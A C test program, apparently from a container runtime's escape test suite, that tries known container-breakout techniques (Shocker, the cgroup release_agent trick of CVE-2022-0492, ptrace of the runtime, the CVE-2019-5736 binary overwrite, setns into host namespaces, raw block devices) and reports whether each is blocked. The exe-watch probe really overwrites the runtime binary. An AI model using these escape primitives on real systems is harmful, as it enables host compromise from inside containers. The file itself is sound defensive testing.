/* Attempts one escape technique from inside a container and prints "escaped" when it worked
 * or "blocked errno N" when the kernel refused it. Built statically by tests/escapes.
 *
 *   escape-probe shocker | mount | module | keyctl | bpf | perf | setns-host |
 *                write FILE | mknod-block | raise-rlimit | read FILE | cgroup-release-agent |
 *                ptrace-watch SECONDS | exe-watch SECONDS
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int blocked(void) {
    printf("blocked errno %d\n", errno);
    return 0;
}

static int escaped(const char *how) {
    printf("escaped %s\n", how);
    return 0;
}

/* Shocker (2014): open a file of the host's root by handle (inode 2 of the root fs). */
static int shocker(void) {
    struct {
        unsigned int handle_bytes;
        int handle_type;
        unsigned char f_handle[8];
    } h = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
    int dir = open("/", O_RDONLY | O_DIRECTORY);
    int fd = syscall(SYS_open_by_handle_at, dir, &h, O_RDONLY);
    return fd >= 0 ? escaped("open_by_handle_at") : blocked();
}

/* Opening a kernel interface for writing is the escape; nothing is written, so a failing
 * protection cannot do harm (no sysrq, no suspend). */
static int write_file(const char *path) {
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return blocked();
    return escaped(path);
}

static int read_file(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return blocked();
    char buf[64];
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) {
        if (n == 0)
            errno = 0;
        return blocked();
    }
    return escaped(path);
}

/* CVE-2022-0492: a new user+mount+cgroup namespace, a v1 cgroup mount, release_agent. */
static int release_agent(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
        return blocked();
    mkdir("/tmp/cg", 0755);
    if (mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma") < 0 && mount("cgroup", "/tmp/cg", "cgroup", 0, "memory") < 0)
        return blocked();
    return write_file("/tmp/cg/release_agent");
}

/* Whether `pid` is running the container runtime's binary (not a container program). */
static int is_runtime(pid_t pid) {
    char path[64], link[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n <= 0)
        return 0;
    link[n] = 0;
    return strstr(link, "scutum") != NULL;
}

/* CVE-2016-9962: attach to a joining `exec` while it is still the runtime, for `secs`
 * seconds. Attaching to container programs is legitimate and ignored. */
static int ptrace_watch(int secs) {
    time_t end = time(NULL) + secs;
    pid_t me = getpid();
    long tries = 0;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == me)
                continue;
            tries++;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                int runtime = is_runtime(pid);
                ptrace(PTRACE_DETACH, pid, 0, 0);
                if (runtime)
                    return escaped("ptrace of the runtime");
            }
        }
        if (d)
            closedir(d);
    }
    errno = 0;
    printf("tries %ld\n", tries);
    return blocked();
}

/* CVE-2019-5736: grab /proc/<pid>/exe of any new process; once that process is gone, try to
 * open the binary for writing and overwrite it. */
static int exe_watch(int secs) {
    time_t end = time(NULL) + secs;
    pid_t me = getpid();
    int got = -1;
    char target[64] = "";
    while (time(NULL) < end && got < 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) && got < 0) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == me)
                continue;
            char path[64], link[256];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, link, sizeof link - 1);
            if (n <= 0)
                continue;
            link[n] = 0;
            if (strstr(link, "scutum") || strstr(link, "memfd")) {
                got = open(path, O_PATH);
                snprintf(target, sizeof target, "%s", link);
            }
        }
        if (d)
            closedir(d);
    }
    if (got < 0) {
        errno = 0;
        return blocked();
    }
    char fdpath[64];
    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", got);
    while (time(NULL) < end) {
        int w = open(fdpath, O_WRONLY | O_TRUNC);
        if (w >= 0) {
            write(w, "#!/bin/sh\necho pwned\n", 21);
            return escaped(target);
        }
        if (errno != ETXTBSY)
            return blocked();
        usleep(1000);
    }
    return blocked();
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: %s TEST [ARG]\n", argv[0]);
        return 2;
    }
    const char *t = argv[1];
    const char *arg = argc > 2 ? argv[2] : "";
    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(t, "shocker"))
        return shocker();
    if (!strcmp(t, "mount")) {
        mkdir("/tmp/m", 0755);
        return mount("tmpfs", "/tmp/m", "tmpfs", 0, NULL) == 0 ? escaped("mount") : blocked();
    }
    if (!strcmp(t, "module")) {
        int fd = open("/bin/busybox", O_RDONLY);
        return syscall(SYS_finit_module, fd, "", 0) == 0 ? escaped("finit_module") : blocked();
    }
    if (!strcmp(t, "keyctl"))
        return syscall(SYS_add_key, "user", "scutum-test", "x", 1, -3) >= 0 ? escaped("add_key") : blocked();
    if (!strcmp(t, "bpf")) {
        union bpf_attr a;
        memset(&a, 0, sizeof a);
        a.map_type = BPF_MAP_TYPE_ARRAY;
        a.key_size = 4;
        a.value_size = 4;
        a.max_entries = 1;
        return syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a) >= 0 ? escaped("bpf") : blocked();
    }
    if (!strcmp(t, "perf")) {
        struct perf_event_attr a;
        memset(&a, 0, sizeof a);
        a.type = PERF_TYPE_SOFTWARE;
        a.size = sizeof a;
        a.config = PERF_COUNT_SW_CPU_CLOCK;
        return syscall(SYS_perf_event_open, &a, -1, 0, -1, 0) >= 0 ? escaped("perf_event_open") : blocked();
    }
    if (!strcmp(t, "setns-host")) {
        /* Joining pid 1's namespaces (the container's own, seen from inside) needs privileges
         * a container process must not have; each attempt must fail. */
        const char *ns[] = {"mnt", "net", "pid", "user", "ipc", "uts", "cgroup"};
        for (unsigned i = 0; i < sizeof ns / sizeof ns[0]; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/1/ns/%s", ns[i]);
            int fd = open(path, O_RDONLY);
            if (fd >= 0 && setns(fd, 0) == 0)
                return escaped(path);
        }
        return blocked();
    }
    if (!strcmp(t, "write"))
        return write_file(arg);
    if (!strcmp(t, "read"))
        return read_file(arg);
    if (!strcmp(t, "mknod-block")) {
        if (mknod("/tmp/blk", S_IFBLK | 0600, makedev(8, 0)) < 0)
            return blocked();
        int fd = open("/tmp/blk", O_RDONLY);
        return fd >= 0 ? escaped("block device") : blocked();
    }
    if (!strcmp(t, "raise-rlimit")) {
        struct rlimit r;
        getrlimit(RLIMIT_NOFILE, &r);
        r.rlim_max += 1;
        r.rlim_cur = r.rlim_max;
        return setrlimit(RLIMIT_NOFILE, &r) == 0 ? escaped("setrlimit") : blocked();
    }
    if (!strcmp(t, "cgroup-release-agent"))
        return release_agent();
    if (!strcmp(t, "ptrace-watch"))
        return ptrace_watch(atoi(arg));
    if (!strcmp(t, "exe-watch"))
        return exe_watch(atoi(arg));
    fprintf(stderr, "unknown test %s\n", t);
    return 2;
}
